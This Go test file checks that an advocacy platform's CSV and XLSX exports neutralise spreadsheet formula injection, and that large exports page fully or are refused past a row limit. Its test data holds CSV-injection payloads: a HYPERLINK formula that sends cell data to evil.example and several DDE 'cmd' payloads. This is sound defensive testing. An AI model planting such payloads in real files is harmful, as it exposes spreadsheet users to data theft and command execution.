package graphql_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/palabre/palabre/graphql"
)

// formulas are texts a spreadsheet would run if a cell began with them:
// one for each character OWASP names (=, +, -, @; a tab and a carriage
// return are in noteFormulas, since a one-line text takes neither), and
// ones that would start a new cell after a separator in the middle of a
// text.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A2,"ouvrir")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"Réunion;=1+2",
	"Réunion,=1+2",
	`Réunion;"=1+2"`,
	" =1+2",
	"Gao, -Mopti",
}

// noteFormulas are formulas behind a tab or a line break, which only a
// text of several lines (a commitment's text, a note) may hold. A lone
// carriage return is refused by the domain; texts stored before it was
// are written safely too (csvcell's own test).
var noteFormulas = []string{
	"\t=1+2",
	"Réunion\n=1+2",
	"Réunion\r\n=1+2",
	"- un\n- deux",
}

// triggers begin a formula in a cell (OWASP's list, the line feed
// aside: it only ever ends a row or a cell).
const triggers = "=+-@\t\r"

func TestEveryExportHoldsFormulasAsText(t *testing.T) {
	e := newEnv(t)
	writeFormulas(t, e)
	for _, path := range []string{"/export/stakeholders.csv", "/export/commitments.csv", "/export/dialogues.csv", "/export/inclusion.csv?groupBy=space&bucket=none"} {
		for _, sep := range []string{"", "semicolon"} {
			url := path
			if sep != "" {
				url += map[bool]string{true: "&", false: "?"}[strings.Contains(path, "?")] + "sep=" + sep
			}
			status, body := e.download(e.admin, url)
			if status != 200 {
				t.Fatalf("%s: %d %s", url, status, body)
			}
			texts := formulas
			if strings.HasPrefix(path, "/export/commitments") {
				texts = append(slices.Clip(formulas), noteFormulas...)
			}
			checkCellsAreText(t, url, body, sep == "semicolon", texts)
			checkNoCellStartsAFormula(t, url, body)
		}
		checkXLSXHoldsTextsNotFormulas(t, e, strings.Replace(path, ".csv", ".xlsx", 1))
	}
}

// checkXLSXHoldsTextsNotFormulas: a workbook's cells are typed, so a
// formula's text is a string cell holding it as written, never a formula.
func checkXLSXHoldsTextsNotFormulas(t *testing.T, e *env, url string) {
	t.Helper()
	status, body := e.download(e.admin, url)
	if status != 200 {
		t.Fatalf("%s: %d", url, status)
	}
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Données")
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	for r, row := range rows {
		for c, v := range row {
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if formula, _ := f.GetCellFormula("Données", ref); formula != "" {
				t.Errorf("%s: %s holds the formula %q", url, ref, formula)
			}
			found[v] = true
		}
	}
	if !found[formulas[0]] {
		t.Errorf("%s: no cell holds %q as written", url, formulas[0])
	}
}

// writeFormulas makes stakeholders, spaces (the inclusion table's
// groups), dialogues and commitments whose texts are formulas.
func writeFormulas(t *testing.T, e *env) {
	t.Helper()
	var holders []string
	for _, f := range formulas {
		holder, space := newID(), newID()
		e.must(e.advocacy, `mutation($c: ID!, $n: String!) { registerStakeholder(commandId: $c, input: {name: $n, type: MAYOR, level: LOCAL, region: "gao"}) { id } }`,
			map[string]any{"c": holder, "n": f})
		e.must(e.admin, `mutation($c: ID!, $n: String!) { establishSpace(commandId: $c, input: {name: $n, kind: SECURITY_ADVISORY_COMMITTEE, region: "gao", pillar: SECURITY, establishedOn: "2025-01-10"}) { id } }`,
			map[string]any{"c": space, "n": f})
		e.must(e.gao, `mutation($c: ID!, $s: ID!, $f: String!) { holdDialogue(commandId: $c, input: {spaceId: $s, heldOn: "2025-03-02", format: WORKSHOP, pillar: SECURITY,
		    title: $f, locality: $f, topics: [$f], headcount: {adultMen: 3}}) { id } }`, map[string]any{"c": newID(), "s": space, "f": f})
		e.must(e.advocacy, `mutation($c: ID!, $h: ID!, $f: String!) { makeCommitment(commandId: $c, input: {stakeholderId: $h, text: $f, pillar: SECURITY, madeOn: "2025-03-02"}) { id } }`,
			map[string]any{"c": newID(), "h": holder, "f": f})
		holders = append(holders, holder)
	}
	for i, f := range noteFormulas {
		e.must(e.advocacy, `mutation($c: ID!, $h: ID!, $f: String!) { makeCommitment(commandId: $c, input: {stakeholderId: $h, text: $f, pillar: SECURITY, madeOn: "2025-03-02"}) { id } }`,
			map[string]any{"c": newID(), "h": holders[i], "f": f})
	}
}

// checkCellsAreText reads the export back as a CSV reader would, with its
// own separator: every cell holding a formula's text holds it behind an
// apostrophe, and no cell begins with a trigger.
func checkCellsAreText(t *testing.T, url string, body []byte, semicolon bool, texts []string) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF"))))
	if semicolon {
		r.Comma = ';'
	}
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", url, err)
	}
	found := map[string]bool{}
	for _, rec := range records {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune(triggers, rune(cell[0])) {
				t.Errorf("%s: a cell begins with %q: %q", url, cell[0], cell)
			}
			found[cell] = true
		}
	}
	for _, text := range texts {
		want := strings.ReplaceAll(neutralisedText(text), "\r\n", "\n") // a CSV reader reads a quoted CRLF as LF
		if !found[want] && !strings.Contains(fmt.Sprint(records), want) {
			t.Errorf("%s: no cell holds %q as text %q", url, text, want)
		}
	}
}

// neutralisedText is a formula's text as an export writes it: an
// apostrophe before every trigger that could begin a cell — its first,
// and in a text written bare (no line break, no quote) one after a
// separator, where a reader with another separator splits it.
func neutralisedText(s string) string {
	if !strings.ContainsAny(s, "\r\n\"") {
		s = strings.NewReplacer(";=", ";'=", ",=", ",'=", "\t=", "\t'=", ", -", ", '-").Replace(s)
	}
	switch {
	case strings.HasPrefix(s, " ="):
		return " '" + s[1:]
	case strings.ContainsRune(triggers, rune(s[0])):
		return "'" + s
	}
	return s
}

// checkNoCellStartsAFormula reads the raw bytes as a spreadsheet that
// guessed the other separator would: wherever a cell could begin (after
// a comma, a semicolon, a tab or a line break outside quotes, and any
// quotes or spaces), no trigger follows. Excel, LibreOffice and Google
// Sheets all keep a quoted cell whole, line breaks included.
func checkNoCellStartsAFormula(t *testing.T, url string, body []byte) {
	t.Helper()
	body = bytes.TrimPrefix(body, []byte("\uFEFF"))
	start, inQuotes := true, false
	for i, c := range body {
		if c == '"' {
			inQuotes = !inQuotes // a doubled quote inside a cell toggles twice
		}
		switch {
		case start && (c == '"' || c == ' '):
		case start && (c == '\r' && i+1 < len(body) && body[i+1] == '\n'):
		case start && strings.IndexByte(triggers, c) >= 0:
			from := max(0, i-20)
			t.Errorf("%s: a cell could begin with %q at byte %d: %q", url, c, i, body[from:min(len(body), i+20)])
			start = false
		default:
			start = false
		}
		if !inQuotes && strings.IndexByte(",;\t\r\n", c) >= 0 {
			start = true
		}
	}
}

// An export pages through every row: a region with 11,001 dialogues in
// the embedded store exports 11,001 (it stopped at 10,000).
func TestAnExportHoldsEveryRowPastTenThousand(t *testing.T) {
	if testing.Short() {
		t.Skip("loads 20,002 synthetic events")
	}
	e := newEnvWith(t, envOptions{history: 20_002, regions: []string{"gao"}}) // 55 % of them dialogues
	n := e.must(e.admin, `{ inclusion(region: "gao", from: "2020-01-01", to: "2030-12-31", bucket: NONE) { total { dialogues } } }`, nil)
	total, _ := get(n, "inclusion", "total", "dialogues").(float64)
	want := int(total)
	if want != 11_001 {
		t.Fatalf("the history holds %d dialogues in gao, want 11,001", want)
	}
	start := time.Now()
	status, body := e.download(e.gao, "/export/dialogues.csv?region=gao")
	took := time.Since(start)
	if status != 200 {
		t.Fatalf("dialogues.csv: %d %.300s", status, body)
	}
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	ids := map[string]bool{}
	for _, rec := range records[1:] {
		ids[rec[0]] = true
	}
	if len(records)-1 != want || len(ids) != want {
		t.Fatalf("dialogues.csv holds %d rows (%d ids), the region %d dialogues", len(records)-1, len(ids), want)
	}
	t.Logf("%d dialogues exported as CSV in %v (%d KB)", want, took.Round(time.Millisecond), len(body)>>10)
}

// Past the most rows an export holds, it is refused with the limit
// named, never cut.
func TestAnExportPastItsLimitIsRefusedWithTheLimitNamed(t *testing.T) {
	e := newEnvWith(t, envOptions{history: 2_000, regions: []string{"gao"}, server: &graphql.Options{ExportRows: 150}})
	status, body := e.download(e.gao, "/export/dialogues.csv?region=gao")
	if status != 400 || !strings.Contains(string(body), "BAD_USER_INPUT") || !strings.Contains(string(body), "150 rows") {
		t.Fatalf("an export past its limit: %d %.300s", status, body)
	}
	if status, _ := e.download(e.gao, "/export/stakeholders.csv"); status != 200 {
		t.Fatalf("an export under the limit: %d", status)
	}
}
